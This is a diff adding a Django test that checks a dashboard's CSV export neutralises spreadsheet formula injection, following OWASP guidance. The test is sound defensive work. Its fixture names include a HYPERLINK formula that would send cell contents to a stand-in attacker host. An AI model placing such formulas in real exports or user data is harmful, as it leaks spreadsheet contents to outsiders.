@@ -143,3 +143,19 @@ def test_bad_input_gets_an_error_beside_its_field(client, admin, query, field, m
     assert message in page[start: page.index("</div>", start)]
     assert 'id="report-table"' not in page and 'id="report-csv"' not in page
     assert client.get(reverse("dashboard:reports_csv"), query).status_code == 400
+
+
+def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_neutralised(client, admin):
+    """OWASP CSV injection: text starting with = + - @ tab or CR gets a leading ' (figures do not)."""
+    names = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+1", "-2+3", "@SUM(A1:A9)", "\tx", "\rx", "plain"]
+    model = ModelFactory(public_name="m")
+    for i, name in enumerate(names):
+        tenant = TenantFactory(name=name)
+        credit_grant(tenant=tenant, amount=Decimal("1"))
+        usage_record_settled(request_id=f"csv-{i}", tenant=tenant, model=model, status="completed",
+                             prompt_tokens=1, completion_tokens=1, total_latency_ms=1, time_to_first_token_ms=1, at=DAY1)
+    response = client.get(reverse("dashboard:reports_csv"), {**QUERY, "group_by": "tenant"})
+    rows = list(csv.reader(io.StringIO(response.content.decode(), newline="")))
+    keys = sorted(row[0] for row in rows[1:])
+    assert keys == sorted([f"'{name}" for name in names[:-1]] + ["plain"])
+    assert all(not cell.startswith("'") for row in rows[1:] for cell in row[1:])
